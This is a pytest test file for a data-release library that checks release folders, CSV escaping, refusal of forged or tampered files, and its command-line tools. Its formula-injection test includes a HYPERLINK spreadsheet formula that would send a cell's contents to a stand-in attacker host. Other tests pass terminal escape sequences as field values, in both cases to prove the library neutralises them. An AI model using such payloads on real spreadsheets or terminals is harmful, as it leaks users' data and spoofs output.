from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from base64 import b64decode, b64encode
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest
from cases.cli_cases import run, words
from cases.release_cases import clustered
from federation.mutations import content_of, mutate_folder
from safetensors.numpy import load, save

from silomix.errors import MessageError, SettingsError
from silomix.messages import SampleLocally
from silomix.messages.container import HEAD
from silomix.messages.container import digest_record as fingerprint
from silomix.messages.folder import (
    ARRAYS,
    LARGEST_FILE,
    MOST_LINES,
    read,
    read_release,
    release_files,
    write_release,
)
from silomix.messages.message_checks import check_reply
from silomix.model.schema import Schema, Variable
from silomix.model.table import infer_schema
from silomix.silo.release import make_release
from silomix.simulate import simulate
from silomix.study import Study, digest, make_study, read_study, write_study
from silomix.study.policy import OPEN, PRESETS, Limits, Policy, echo, write_policy
from silomix.study.roster import read_roster

if TYPE_CHECKING:
    from silomix.messages import Release

DEFAULT = PRESETS["default"]
ROSTER = ["north", "south", "east"]
SIZES = (2, 3, 2, 4)
KINDS = {".csv", ".json", ".txt", ".png"}


@dataclass(frozen=True)
class Case:
    study: Study
    release: Release
    files: dict[str, bytes]


def make_case(
    seed, policy=DEFAULT, tier="summary", members=(203, 61, 15, 7), sizes=SIZES, draws=60
):
    local = clustered(np.random.default_rng(seed), list(members), sizes, draws=draws)
    schema = local.draws.shard.schema
    study = make_study(schema, ROSTER, tier=tier)
    release = make_release(
        local, silo="south", place=1, study=digest(study), tier=tier, policy=policy
    )
    return Case(study, release, release_files(release, schema))


@pytest.fixture(scope="module")
def summary():
    return make_case(1)


@pytest.fixture(scope="module")
def drawn():
    return make_case(2, OPEN, "draws")


@pytest.fixture(autouse=True)
def no_picture(monkeypatch):
    """Pictures take a while; those of `summary` and `drawn` are drawn before this."""
    monkeypatch.setattr("silomix.messages.release_explained.find_spec", lambda _: None)


def put(folder, files):
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return folder


def forge(files, changed=(), arrays=None, **fields):
    """The files with some replaced, and a head that vouches for all that can be read."""
    files = files | dict(changed)
    document = json.loads(files.pop(HEAD))
    document["fields"] |= fields
    if arrays is not None:
        files[ARRAYS] = b64encode(save(arrays))
    document["files"] = {name: hashlib.sha256(files[name]).hexdigest() for name in sorted(files)}
    document["content"] = content_of(document, arrays_in(files))
    text = json.dumps(document, indent=1, ensure_ascii=False)
    return files | {HEAD: text.encode() + b"\n"}


def arrays_in(files):
    return load(b64decode(files[ARRAYS]))


def arrive(folder, study):
    """The release in a folder, as the coordinator takes it in."""
    envelope, release = read(folder, study=study)
    check_reply(release, SampleLocally(), study, envelope.silo)
    return release


class TestRoundTrip:
    @pytest.mark.parametrize(
        ("policy", "tier"),
        [
            *((policy, "summary") for policy in PRESETS.values()),
            (OPEN, "draws"),
            (Policy(name="d", tiers=("draws",)), "draws"),
        ],
        ids=lambda value: getattr(value, "name", value),
    )
    def test_bit_for_bit(self, tmp_path, seed, policy, tier):
        case = make_case(seed, policy, tier)
        schema = case.study.table_schema
        files = write_release(case.release, tmp_path / "out", schema)
        back = arrive(tmp_path / "out", case.study)
        assert fingerprint(back) == fingerprint(case.release)
        assert sorted(files) == sorted((tmp_path / "out").iterdir())
        assert list(tmp_path.iterdir()) == [tmp_path / "out"]

    def test_the_same_bytes_every_time(self, summary, monkeypatch):
        monkeypatch.undo()
        assert "profile.png" in summary.files
        again = release_files(summary.release, summary.study.table_schema)
        assert again == summary.files

    def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]", 'a "quoted", $name$, 数')
        link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
        local = clustered(np.random.default_rng(seed), [40, 30], (3, 4), draws=20)
        study = make_study(schema, ROSTER, tier="draws")
        release = make_release(local, silo="north", place=0, study=digest(study), tier="draws")
        write_release(release, tmp_path / "r", schema)
        assert fingerprint(read(tmp_path / "r", study=study)[1]) == fingerprint(release)
        assert read_release(tmp_path / "r")[1] == schema
        cells = {
            cell
            for path in (tmp_path / "r").glob("*.csv")
            for row in csv.reader(io.StringIO(path.read_text(), newline=""))
            for cell in row
        }
        assert not any(cell.startswith(("=", "@", "+v")) for cell in cells)
        assert {"'@SUM(1)", "'+ve", "-1", "''=1+1", "+", "(-2, -1]"} <= cells
        written = f"'{link}"
        assert {written, f"{written}=+ve"} <= cells


def check_airlock(files):
    for name, content in files.items():
        assert Path(name).suffix in KINDS
        assert len(content) <= LARGEST_FILE
        if name.endswith(".csv"):
            assert content.count(b"\n") <= MOST_LINES


class TestWriting:
    def test_an_airlock_takes_it_and_details_of_checks_stay_inside(self, summary, drawn):
        assert "203" not in summary.files["checks.csv"].decode()
        for case, warning in (
            (summary, "not differential privacy"),
            (drawn, "usually to within one"),
        ):
            check_airlock(case.files)
            page = " ".join(case.files["README.txt"].decode().split())
            assert warning in page
            assert "203 to" not in page
            assert "clusters of 7 rows" not in page

    def test_only_a_release_is_replaced_and_only_by_force(self, tmp_path, summary):
        schema = summary.study.table_schema
        write_release(summary.release, tmp_path, schema)
        with pytest.raises(SettingsError, match="--force"):
            write_release(summary.release, tmp_path, schema)
        (tmp_path / "README.txt").write_text("old")
        write_release(summary.release, tmp_path, schema, force=True)
        arrive(tmp_path, summary.study)
        (tmp_path / "mine").mkdir()
        (tmp_path / "mine" / "thesis.txt").write_text("years of work")
        with pytest.raises(SettingsError, match=r"exists already; give another folder$"):
            write_release(summary.release, tmp_path / "mine", schema, force=True)
        assert (tmp_path / "mine" / "thesis.txt").exists()


class TestRefusals:
    def refused(self, tmp_path, case, files, match=None):
        """Neither the coordinator takes it in, nor is it explained to anybody."""
        folder = put(tmp_path / "r", files)
        with pytest.raises(MessageError, match=match):
            arrive(folder, case.study)
        with pytest.raises(MessageError, match=match):
            read_release(folder)

    def test_what_is_forged_well_is_read_unless_of_another_study_silo_or_schema(
        self, tmp_path, summary, drawn
    ):
        for name, case in (("s", summary), ("d", drawn)):
            release = arrive(put(tmp_path / name, forge(case.files)), case.study)
            assert fingerprint(release) == fingerprint(case.release)
        other = make_study(summary.study.table_schema, ROSTER, tier="summary", seed=5)
        with pytest.raises(MessageError, match="is of study"):
            arrive(put(tmp_path / "r", summary.files), other)
        schema = summary.study.table_schema
        sex, *others = schema.variables
        sexes = release_files(summary.release, Schema((replace(sex, name="sex"), *others)))
        forged = [forge(summary.files, **{k: v}) for k, v in (("silo", "west"), ("place", 2))]
        for files in (*forged, forge(summary.files, tier="draws"), sexes):
            with pytest.raises(MessageError):
                arrive(put(tmp_path / "r", files), summary.study)

    def test_a_wrong_head(self, tmp_path, summary):
        for fields in (
            {"rows": 5},
            {"policy": {}},
            {"policy": {"name": 3}},
            {"silo": "a\x1b[31m"},
            {"more": 1},
            {"diagnostics": {}},
            {"checks": [{"rule": "none"}]},
        ):
            self.refused(tmp_path, summary, forge(summary.files, **fields))

    @pytest.mark.parametrize(
        ("name", "old", "new"),
        [
            ("cluster_sizes.csv", b"\n0,", b"\n1,"),
            ("cluster_sizes.csv", b"\n0,", b"\n0,-"),
            ("profile.csv", b",205,205,", b",205,200,"),
            ("profile.csv", b",v0,", b",v1,"),
            ("profile.csv", b",cluster,", b",silo,"),
            ("profile.csv", b"v0,level 1", b"v0,level 0"),
            ("profile.csv", b"mean,conc", b"mean,spread,conc"),
            ("profile.csv", b"cluster,variable", b'cluster,"variable'),
            ("profile.csv", b",v0,", b",v\x1b[2J,"),
            ("profile.csv", b",v0,", b',"v\nw",'),
            ("checks.csv", b",10,", b",ten,"),
            ("checks.csv", b",10,", b",11,"),
        ],
    )
    def test_a_vouched_for_file(self, tmp_path, summary, name, old, new):
        content = summary.files[name].replace(old, new, 1)
        assert content != summary.files[name]
        self.refused(tmp_path, summary, forge(summary.files, {name: content}))

    @pytest.mark.parametrize(
        ("name", "values"),
        [
            ("mean", [np.nan, np.inf, -0.1]),
            ("concentration", [np.nan, -3.0, 1e300]),
            ("known", [-1, 10**12]),
        ],
    )
    def test_a_number_that_cannot_be(self, tmp_path, summary, name, values):
        for value in values:
            arrays = arrays_in(summary.files)
            arrays[name][0, 0] = value
            self.refused(tmp_path, summary, forge(summary.files, arrays=arrays))

    def test_what_no_table_shows(self, tmp_path, summary, drawn):
        """Arrays that are longer or wider, or in twice as many bits, and a word elsewhere."""
        for case, name in ((summary, "mean"), (summary, "known"), (drawn, "parameters")):
            arrays = arrays_in(case.files)
            wider = np.concatenate([arrays[name], arrays[name][..., :1]], axis=-1)
            self.refused(tmp_path, case, forge(case.files, arrays=arrays | {name: wider}))
        arrays = arrays_in(drawn.files)
        wide = arrays | {"weights": arrays["weights"].astype(np.float64)}
        self.refused(tmp_path, drawn, forge(drawn.files, arrays=wide), "weights")
        del arrays["weights"]
        self.refused(tmp_path, drawn, forge(drawn.files, arrays=arrays))
        head = json.loads(summary.files[HEAD])
        for variables in (
            [{**variable, "na_values": ["word"]} for variable in head["variables"]],
            [{**variable, "kind": "poisson"} for variable in head["variables"]],
            [head["variables"][0], *head["variables"]],
            [],
            None,
        ):
            text = json.dumps(head | {"variables": variables}, indent=1, ensure_ascii=False)
            self.refused(tmp_path, summary, summary.files | {HEAD: text.encode() + b"\n"})

    def test_what_its_own_policy_forbids(self, tmp_path, seed, drawn):
        strict = echo(OPEN.model_copy(update={"tiers": ("summary",)}))
        self.refused(tmp_path, drawn, forge(drawn.files, policy=strict))
        even = Policy(name="l", minimum_count=5, round_to=5)
        for loose, case in (
            ("sizes", make_case(seed, Policy(name="l", minimum_count=10, round_to=1), sizes=(2,))),
            ("probabilities", make_case(seed, even, "summary", (200, 100))),
        ):
            files = forge(case.files, policy=echo(DEFAULT))
            with pytest.raises(MessageError):
                read_release(put(tmp_path / loose, files))

    def test_draws_that_cannot_be(self, tmp_path, drawn):
        for name in ("weights", "parameters"):
            arrays = arrays_in(drawn.files)
            arrays[name][0, 0] = 0.125
            self.refused(
                tmp_path, drawn, forge(drawn.files, arrays=arrays), "sum to one|parameters"
            )
            table = drawn.files[f"{name}.csv"]
            for lines in (table.replace(b"\n7,", b"\n8,", 1), table[: table.rindex(b"\n", 0, -1)]):
                self.refused(tmp_path, drawn, forge(drawn.files, {f"{name}.csv": lines}), name)
        (tmp_path / "r" / "weights.csv").unlink()
        files = {k: v for k, v in drawn.files.items() if k != "weights.csv"}
        self.refused(tmp_path, drawn, forge(files, {"weights_3.csv": drawn.files["weights.csv"]}))


class TestCommands:
    @pytest.fixture
    def release(self, tmp_path, monkeypatch):
        """`silomix release` of the first of two hospitals, in a folder with what it needs."""
        monkeypatch.chdir(tmp_path)
        table, _ = simulate("nested", rows=400, silos=2, seed=3)
        table.to_csv("table.csv", index=False)
        schema, names = infer_schema(table, silo="silo"), read_roster(table, "silo").names
        for tier in ("summary", "draws"):
            study = make_study(schema, names, tier=tier, iterations=400, chains=1, components=8)
            write_study(study, f"{tier}.toml")
        write_policy(Policy(name="ours", minimum_count=20), "ours.toml")
        write_policy(Policy(limits=Limits(components=7)), "short.toml")

        def command(*more, tier="summary", policy="default"):
            where = "table.csv", "--silo", names[0], "--silo-column", "silo"
            return run("release", *where, "--study", f"{tier}.toml", "--policy", policy, *more)

        return command

    def test_release_and_inspect(self, release, monkeypatch):
        made = release("--out", "out", "--json", policy="ours.toml")
        assert made.exit_code == 0, made.output
        told = json.loads(made.stdout)
        assert told["sizes"] == arrive("out", read_study("summary.toml")).sizes.tolist()
        assert told["policy"]["name"] == "ours"
        assert min(told["sizes"]) >= 20
        assert all(check["inside"] == "" for check in told["checks"])
        assert sorted(told["files"]) == sorted(map(str, Path("out").iterdir()))

        shown = run("inspect", "out")
        assert shown.exit_code == 0, shown.output
        assert "to the nearest 5" in words(shown)
        record = json.loads(run("inspect", "out", "--json").stdout)
        assert record["sizes"] == told["sizes"]
        assert record["explanation"] == told["explanation"]

        with monkeypatch.context() as patch:
            patch.setattr("silomix.cli.silo_side.sample_rows", None)  # refused before it samples
            again = release("--out", "out")
        assert (again.exit_code, "exists already" in words(again)) == (4, True)
        assert release("--out", "out", "--force", policy="ours.toml").exit_code == 0
        rounded = release("--out", "out", "--force")
        assert (rounded.exit_code, "the earlier policy (--policy); to" in words(rounded)) == (
            6,
            True,
        )

    def test_dry_run_shows_details_and_writes_nothing(self, release):
        before = sorted(Path().iterdir())
        shown = release("--dry-run")
        assert shown.exit_code == 0, shown.output
        assert "no probability moved by more than" in words(shown)
        record = json.loads(release("--dry-run", "--json").stdout)
        assert any(" to " in check["inside"] for check in record["checks"])
        assert "files" not in record
        assert sorted(Path().iterdir()) == before

    def test_what_cannot_be_done(self, release):
        for result, code, word in (
            (release(), 2, "--dry-run to see it first"),
            (release("--out", "r", tier="draws"), 6, "tier 'draws'"),
            (release("--dry-run", policy="strict"), 4, "no policy 'strict'"),
            (release("--dry-run", policy="short.toml"), 6, "sets components to 8"),
            (run("inspect", "."), 5, "message.json is missing"),
        ):
            assert (result.exit_code, word in words(result)) == (code, True), result.output
        assert not Path("r").exists()


def check_sane(release, study):
    """What is accepted is a release that the rest may rely on."""
    offsets = study.table_schema.offsets
    assert release.sizes.min() >= 1
    assert release.sizes.sum() == release.rows
    assert release.mean.shape == (release.clusters, offsets[-1])
    for array in (release.mean, release.concentration):
        assert np.isfinite(array).all()
    sums = np.add.reduceat(release.mean, offsets[:-1], axis=1)
    np.testing.assert_allclose(sums, 1.0, atol=1e-4)
    assert Policy(**release.policy)


@pytest.mark.parametrize(
    ("block", "tries"),
    [(0, 100), *(pytest.param(n, 1000, marks=pytest.mark.slow) for n in range(1, 11))],
)
def test_mutations_are_refused_or_harmless(tmp_path, summary, seed, block, tries):
    rng = np.random.default_rng([seed, 4, block])
    good, wrong, refused = put(tmp_path / "good", summary.files), tmp_path / "wrong", 0
    for _ in range(tries):
        shutil.copytree(good, wrong)
        mutate_folder(wrong, [good], rng)
        try:
            check_sane(arrive(wrong, summary.study), summary.study)
        except MessageError:
            refused += 1
        shutil.rmtree(wrong)
    assert refused > 0.7 * tries
